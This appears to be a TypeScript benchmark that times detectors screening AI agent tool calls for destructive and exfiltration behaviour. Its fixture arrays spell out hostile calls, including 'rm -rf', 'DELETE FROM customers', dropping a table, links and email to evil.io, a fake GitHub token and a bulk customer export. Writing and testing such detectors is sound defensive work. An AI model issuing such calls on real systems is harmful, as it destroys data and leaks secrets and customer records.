// Inspection detectors: ns per call of the compiled destructive and exfiltration detectors on a
// typical benign call and a typical firing call (default limits, all exfiltration heuristics on).
//
// Timing: each measurement runs the detector over a fixed, cycled input set in batches and
// reports the median of several rounds (ns per call, calls per second).
import {
  compileDestructiveDetector,
  compileExfiltrationDetector,
  DEFAULT_DESTRUCTIVE_TOOL_PATTERNS,
  type ToolCallView,
} from '../../data-plane/inspection/index.js';
import type { BenchContext, BenchRow } from './run.js';

const ROUNDS = 7;
const ROUND_MS = 150;
let sink = 0;

function measure(run: (i: number) => number): number {
  const batch = (n: number) => {
    const t0 = process.hrtime.bigint();
    for (let i = 0; i < n; i++) sink += run(i);
    return Number(process.hrtime.bigint() - t0);
  };
  let n = 1000;
  while (batch(n) < 20e6 && n < 1e9) n *= 2;
  const perBatch = Math.max(1, Math.round((n * ROUND_MS * 1e6) / Math.max(1, batch(n))));
  const samples: number[] = [];
  for (let r = 0; r < ROUNDS; r++) samples.push(batch(perBatch) / perBatch);
  samples.sort((a, b) => a - b);
  return samples[Math.floor(samples.length / 2)]!;
}

const call = (toolName: string, args: unknown): ToolCallView => ({
  method: 'tools/call',
  toolName,
  args,
});

const BENIGN: ToolCallView[] = [
  call('search_documents', { query: 'quarterly revenue', limit: 20, includeArchived: false }),
  call('run_query', { sql: 'SELECT id, name FROM customers WHERE region = $1', params: ['EU'] }),
  call('send_message', {
    channel: 'ops',
    text: 'Deploy finished',
    url: 'https://ci.corp.example/run/42',
  }),
  call('get_weather', { city: 'Lyon', units: 'metric', days: 3 }),
];
const DESTRUCTIVE: ToolCallView[] = [
  call('run_query', { sql: 'DELETE FROM customers', dryRun: false }),
  call('exec', { command: 'rm -rf /var/lib/app', cwd: '/' }),
  call('http_request', { method: 'DELETE', url: 'https://api.corp.example/users/7' }),
  call('drop_table', { table: 'customers' }),
];
const EXFILTRATION: ToolCallView[] = [
  call('send_message', { channel: 'ops', text: 'see https://paste.evil.io/x' }),
  call('set_config', { key: 'github', value: 'ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8' }),
  call('list_customers', { region: 'EU', limit: 50_000 }),
  call('notify', { to: 'someone@evil.io', subject: 'report' }),
];

function row(detector: string, input: string, ns: number): BenchRow {
  return {
    detector,
    input,
    'ns/call': ns < 1000 ? Number(ns.toFixed(1)) : Math.round(ns),
    'calls/s': Math.round(1e9 / ns).toLocaleString('en-US'),
  };
}

export default async function inspection(ctx: BenchContext): Promise<void> {
  const destructive = compileDestructiveDetector({
    toolPatterns: DEFAULT_DESTRUCTIVE_TOOL_PATTERNS,
  });
  const exfiltration = compileExfiltrationDetector({
    detectSecrets: true,
    bulkExportLimit: 1000,
    checkDestinations: true,
    allowedDomains: ['corp.example'],
  });
  const cycle = (detector: typeof destructive, inputs: ToolCallView[]) => (i: number) =>
    detector(inputs[i & 3]!) === null ? 0 : 1;

  for (const inputs of [BENIGN, DESTRUCTIVE, EXFILTRATION]) {
    for (const c of inputs) {
      if (inputs === BENIGN && (destructive(c) !== null || exfiltration(c) !== null))
        throw new Error(`benign input fired: ${c.toolName}`);
    }
  }
  if (DESTRUCTIVE.some((c) => destructive(c) === null)) throw new Error('destructive input missed');
  if (EXFILTRATION.some((c) => exfiltration(c) === null)) throw new Error('exfil input missed');

  const rows: BenchRow[] = [];
  ctx.progress('destructive');
  rows.push(row('destructive', 'benign (4 typical calls)', measure(cycle(destructive, BENIGN))));
  rows.push(
    row(
      'destructive',
      'destructive (SQL, shell, HTTP, name)',
      measure(cycle(destructive, DESTRUCTIVE)),
    ),
  );
  ctx.progress('exfiltration');
  rows.push(row('exfiltration', 'benign (4 typical calls)', measure(cycle(exfiltration, BENIGN))));
  rows.push(
    row(
      'exfiltration',
      'exfiltrating (URL, token, bulk, email)',
      measure(cycle(exfiltration, EXFILTRATION)),
    ),
  );
  ctx.report('Inspection detectors (median ns per call, default limits)', rows);
  if (sink === -1) console.log(sink);
}
